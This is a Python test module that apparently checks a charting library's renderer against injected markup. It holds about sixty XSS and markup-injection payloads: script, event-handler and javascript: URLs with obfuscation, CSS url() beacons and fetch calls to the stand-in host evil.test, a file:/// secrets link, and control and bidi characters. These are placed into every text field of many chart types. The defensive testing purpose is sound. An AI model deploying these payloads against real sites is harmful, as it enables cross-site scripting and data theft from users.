"""Markup in text."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from ..cases import Case, Drawn

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["MARKUP", "PLACES", "cases", "texts"]

WEB = "http://evil.test"
DATA = "data:text/html,<script src=http://evil.test/data.js></script>"

MARKUP = {
    "background": f'<span style="background:url({WEB}/background.svg)">x</span>',
    "background, quoted": f"<span style='background:url(\"{WEB}/quoted.svg\")'>x</span>",
    "background, escaped": f'<span style="background:\\75rl({WEB}/escaped.svg)">x</span>',
    "background, comment": f'<span style="back/**/ground:u/**/rl({WEB}/comment.svg)">x</span>',
    "background, entities": f'<span style="background&#58;url&#40;{WEB}/e.svg&#41;">x</span>',
    "image-set": f"<span style=\"background:image-set('{WEB}/image-set.svg' 1x)\">x</span>",
    "mask": f'<b style="mask:url({WEB}/mask.svg#x);-webkit-mask-image:url({WEB}/m.svg)">x</b>',
    "filter": f'<i style="filter:url({WEB}/filter.svg#x);clip-path:url({WEB}/clip.svg#x)">x</i>',
    "fill": f'<span style="fill:url({WEB}/fill.svg#x);stroke:url({WEB}/stroke.svg#x)">x</span>',
    "marker": f'<span style="marker:url({WEB}/marker.svg#x)">x</span>',
    "cursor": f'<span style="cursor:url({WEB}/cursor.svg),auto">x</span>',
    "list": f'<span style="display:list-item;list-style:url({WEB}/list.svg)">x</span>',
    "border": f'<span style="border-image:url({WEB}/border.svg) 30">x</span>',
    "content": f'<span style="content:url({WEB}/content.svg)">x</span>',
    "font-face": f'<span style="}}@font-face{{font-family:y;src:url({WEB}/f.woff2)}}">x</span>',
    "variable": f'<span style="--a:url({WEB}/var.svg);background:var(--a)">x</span>',
    "import": f"<style>@import url({WEB}/import.css);*{{fill:red}}</style>",
    "style sheet": f'<link rel="stylesheet" href="{WEB}/link.css">',
    "image": f'<img src="{WEB}/img.svg" srcset="{WEB}/srcset.svg 1x" onerror="fetch(\'{WEB}/e\')">',
    "image, no quotes": f"<img/src={WEB}/img2.svg onload=alert(1)>",
    "svg image": f'<image href="{WEB}/image.svg" xlink:href="{WEB}/x.svg" width="99" height="99"/>',
    "svg": f'<svg onload="fetch(\'{WEB}/onload\')"><use href="{WEB}/use.svg#x"/></svg>',
    "foreign object": f'<foreignObject><iframe src="{WEB}/frame"></iframe></foreignObject>',
    "frame": f'<iframe src="{WEB}/frame" srcdoc="<img src={WEB}/srcdoc.svg>"></iframe>',
    "object": f'<object data="{WEB}/object.svg"></object><embed src="{WEB}/embed.svg">',
    "video": f'<video poster="{WEB}/poster.svg" src="{WEB}/v.mp4" autoplay></video>',
    "script": f'<script src="{WEB}/script.js"></script><script>fetch("{WEB}/fetch")</script>',
    "base": f'<base href="{WEB}/"><meta http-equiv="refresh" content="0;url={WEB}/meta">',
    "animation": f'<animate attributeName="href" values="{WEB}/animate"/><set onbegin="x()"/>',
    "link": f'<a href="{WEB}/link" ping="{WEB}/ping">x</a>',
    "link, no scheme": '<a href="//evil.test/link">x</a>',
    "link to a script": f"<a href=\"javascript:fetch('{WEB}/js')\">x</a>",
    "link to a script, mixed": f"<a href=\" \x01jAvA\tsCrIpT:fetch('{WEB}/js')\">x</a>",
    "link to a script, entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "link to a script, null": '<a href="java\x00script:alert(1)">x</a>',
    "link to a script, newline": '<a href="java\nscript:alert(1)">x</a>',
    "link to data": f'<a href="{DATA}">x</a>',
    "link to a file": '<a href="file:///SECRETS/secret.svg">x</a>',
    "link to vbscript": '<a href="vbscript:x">x</a>',
    "link with events": f'<a href="{WEB}" onclick="alert(1)" target="x" onmouseover=alert(1)>x</a>',
    "link with a popup": f'<a href="{WEB}" popup="x\',\'y" target="_top\\" onclick=\\"x()">x</a>',
    "link with a style": f'<a href="#" style="background:url({WEB}/a.svg)">x</a>',
    "quotes closed": f'"><img src="{WEB}/closed.svg"><b x="',
    "text closed": f'</tspan></text><image href="{WEB}/text.svg" width="99" height="99"/><text>',
    "entities": f'&lt;img src="{WEB}/entity.svg"&gt;',
    "entities of entities": f'&amp;lt;img src="{WEB}/entity2.svg"&amp;gt;',
    "section": f'<![CDATA[<image href="{WEB}/cdata.svg"/>]]>',
    "comment": f'<!--><img src="{WEB}/comment.svg">-->',
    "doctype": f'<!DOCTYPE a SYSTEM "{WEB}/dtd"><?xml-stylesheet href="{WEB}/xsl.css"?>',
    "tags in tags": f'<<b>img src="{WEB}/nested.svg">',
    "wrong nesting": "<b><i><sub><sup></b></i><a></sub></sup><br><br/></a>",
    "upper case": f'<SPAN STYLE="BACKGROUND:URL({WEB}/UPPER.SVG)"><IMG SRC="{WEB}/IMG.SVG">',
    "wide brackets": f'\uff1cimg src="{WEB}/wide.svg"\uff1e',
    "controls": "a\x00b\x01c\x08d\x0be\x1ff\x7fg\ufffeh\uffffi",
    "lone surrogates": "a\ud800b\udfffc",
    "directions": "\u202eabc\u202d\u2066def\u2069\u200f",
    "marks": "a" + "\u0301" * 500,
}


def texts(text: str) -> dict[str, dict[str, Any]]:
    """Figures that show a text in all places that there are, by name."""
    line = {"type": "scatter", "y": [1, 3, 2]}
    titled = {"title": {"text": text, "subtitle": {"text": text}}}
    axis = {"title": {"text": text}, "tickprefix": text, "ticksuffix": text}
    ticks = {"tickvals": [0, 1, 2], "ticktext": [text] * 3}
    bar = {"title": {"text": text}, **ticks}
    note = {"text": text, "hovertext": text, "x": 1, "y": 1, "name": text}
    return {
        "titles": {"data": [line], "layout": {**titled, "xaxis": axis, "yaxis": axis}},
        "ticks": {"data": [line], "layout": {"xaxis": ticks, "yaxis": ticks}},
        "categories": {"data": [{"type": "bar", "x": [text, "b"], "y": [1, 2]}]},
        "two categories": {"data": [{"type": "bar", "x": [[text, text], ["a", "b"]], "y": [1, 2]}]},
        "annotations": {
            "data": [line],
            "layout": {"annotations": [note, {**note, "align": "left"}]},
        },
        "legend": {
            "data": [
                {**line, "name": text, "legendgroup": text, "legendgrouptitle": {"text": text}},
                {**line, "name": text},
            ],
            "layout": {"showlegend": True, "legend": {"title": {"text": text}}},
        },
        "text": {"data": [{**line, "mode": "markers+text", "text": text, "hovertext": text}]},
        "texts": {"data": [{**line, "mode": "text", "text": [text, text, text]}]},
        "template": {
            "data": [
                {
                    **line,
                    "mode": "text",
                    "meta": [text],
                    "customdata": [text] * 3,
                    "texttemplate": "%{meta[0]} %{customdata}" + text,
                    "hovertemplate": text,
                }
            ],
            "layout": {"meta": [text], "title": {"text": "%{meta[0]}"}},
        },
        "bars": {
            "data": [{"type": "bar", "y": [1, 2], "text": [text] * 2, "textposition": "auto"}]
        },
        "pie": {
            "data": [
                {
                    "type": "pie",
                    "labels": [text, "b"],
                    "values": [1, 2],
                    "text": [text] * 2,
                    "textinfo": "label+text",
                    "title": {"text": text},
                }
            ]
        },
        "sunburst": {"data": [{"type": "sunburst", "labels": [text, "b"], "parents": ["", text]}]},
        "treemap": {"data": [{"type": "treemap", "labels": [text, "b"], "parents": ["", text]}]},
        "icicle": {"data": [{"type": "icicle", "labels": [text, "b"], "parents": ["", text]}]},
        "funnel": {"data": [{"type": "funnel", "y": [text, "b"], "x": [2, 1], "text": [text] * 2}]},
        "waterfall": {"data": [{"type": "waterfall", "x": [text], "y": [1], "text": [text]}]},
        "table": {
            "data": [
                {
                    "type": "table",
                    "header": {"values": [text, [text, text]]},
                    "cells": {"values": [[text], [text]], "prefix": text, "suffix": text},
                }
            ]
        },
        "heatmap": {
            "data": [
                {
                    "type": "heatmap",
                    "z": [[1, 2]],
                    "text": [[text, text]],
                    "colorbar": bar,
                    "texttemplate": "%{text}" + text,
                }
            ]
        },
        "contour": {
            "data": [
                {
                    "type": "contour",
                    "z": [[1, 2, 3], [2, 3, 9]],
                    "name": text,
                    "contours": {"showlabels": True, "labelformat": text},
                }
            ]
        },
        "indicator": {
            "data": [
                {
                    "type": "indicator",
                    "mode": "number+delta+gauge",
                    "value": 1,
                    "title": {"text": text},
                    "number": {"prefix": text, "suffix": text},
                    "delta": {"reference": 2, "prefix": text},
                    "gauge": {"axis": ticks},
                }
            ]
        },
        "sankey": {
            "data": [
                {
                    "type": "sankey",
                    "node": {"label": [text, text]},
                    "link": {"source": [0], "target": [1], "value": [1], "label": [text]},
                }
            ]
        },
        "parallel coordinates": {
            "data": [
                {
                    "type": "parcoords",
                    "dimensions": [
                        {"label": text, "values": [1, 2], **ticks},
                        {"label": "b", "values": [1, 2]},
                    ],
                }
            ]
        },
        "parallel categories": {
            "data": [
                {
                    "type": "parcats",
                    "dimensions": [
                        {"label": text, "values": [text, "b"]},
                        {"label": "b", "values": ["c", text]},
                    ],
                }
            ]
        },
        "polar": {
            "data": [{"type": "scatterpolar", "r": [1, 2], "theta": [text, "b"]}],
            "layout": {"polar": {"radialaxis": axis, "angularaxis": ticks}},
        },
        "ternary": {
            "data": [{"type": "scatterternary", "a": [1], "b": [2], "c": [3]}],
            "layout": {"ternary": {"aaxis": axis, "baxis": axis, "caxis": axis}},
        },
        "carpet": {
            "data": [
                {
                    "type": "carpet",
                    "a": [1, 2],
                    "b": [1, 2],
                    "y": [[1, 2], [2, 3]],
                    "aaxis": axis,
                    "baxis": axis,
                }
            ]
        },
        "smith": {
            "data": [
                {"type": "scattersmith", "real": [1], "imag": [1], "mode": "text", "text": [text]}
            ]
        },
        "scatterplot matrix": {
            "data": [
                {
                    "type": "splom",
                    "dimensions": [
                        {"label": text, "values": [1, 2]},
                        {"label": text, "values": [1, 2]},
                    ],
                }
            ]
        },
        "3D": {
            "data": [
                {
                    "type": "scatter3d",
                    "x": [1, 2],
                    "y": [1, 2],
                    "z": [1, 2],
                    "mode": "text",
                    "text": [text, text],
                }
            ],
            "layout": {"scene": {"xaxis": {**axis, **ticks}, "annotations": [{**note, "z": 1}]}},
        },
        "WebGL": {"data": [{"type": "scattergl", "y": [1, 2], "mode": "text", "text": [text] * 2}]},
        "shapes": {
            "data": [line],
            "layout": {
                "shapes": [
                    {
                        "type": "rect",
                        "x0": 0,
                        "x1": 1,
                        "y0": 1,
                        "y1": 2,
                        "name": text,
                        "label": {"text": text, "texttemplate": text},
                        "showlegend": True,
                    }
                ],
                "selections": [{"type": "rect", "x0": 0, "x1": 1, "y0": 1, "y1": 2, "name": text}],
            },
        },
        "controls": {
            "data": [line],
            "layout": {
                "updatemenus": [{"name": text, "buttons": [{"label": text, "name": text}]}],
                "sliders": [
                    {
                        "currentvalue": {"prefix": text, "suffix": text},
                        "steps": [{"label": text, "value": text}, {"label": text}],
                    }
                ],
                "xaxis": {"rangeselector": {"buttons": [{"label": text}]}, "rangeslider": {}},
            },
        },
        "formats": {
            "data": [{**line, "hoverlabel": {"namelength": 0}}],
            "layout": {
                "xaxis": {"tickformat": text, "hoverformat": text},
                "yaxis": {"type": "date", "tickformat": text, "calendar": text},
                "separators": text,
                "hovermode": text,
            },
        },
        "template layout": {
            "data": [line],
            "layout": {
                "template": {
                    "layout": {**titled, "annotationdefaults": note},
                    "data": {"scatter": [{"name": text, "text": text}]},
                },
                "annotations": [{}],
                "showlegend": True,
            },
        },
        "identifiers": {
            "data": [
                {
                    **line,
                    "uid": text,
                    "ids": [text] * 3,
                    "stackgroup": text,
                    "legendgroup": text,
                    "offsetgroup": text,
                    "xhoverformat": text,
                }
            ],
            "layout": {"uirevision": text, "datarevision": text, "uniformtext": {"mode": text}},
        },
    }


PLACES = tuple(texts(""))


def cases() -> Iterator[Case]:
    """Each markup in titles and annotations, and all of it in each place."""
    for name, markup in MARKUP.items():
        figures = texts(markup)
        both = {
            "data": figures["legend"]["data"],
            "layout": figures["titles"]["layout"] | figures["annotations"]["layout"],
        }
        yield Case("markup in titles", name, both, Drawn())
    everything = "".join(text for name, text in MARKUP.items() if name not in _UNPRINTABLE)
    for place, figure in texts(everything).items():
        yield Case(
            f"markup in {place}",
            "all",
            figure,
            None if place in {"formats", "3D", "identifiers"} else Drawn(),
        )
    for place, figure in texts(MARKUP["controls"]).items():
        yield Case("control characters", place, figure)
    for place, figure in texts(MARKUP["background"]).items():
        yield Case(f"markup in {place}", "background", figure, Drawn())


_UNPRINTABLE = {
    "controls",
    "lone surrogates",
    "marks",
    "directions",
    "link to a script, mixed",
    "link to a script, null",
}
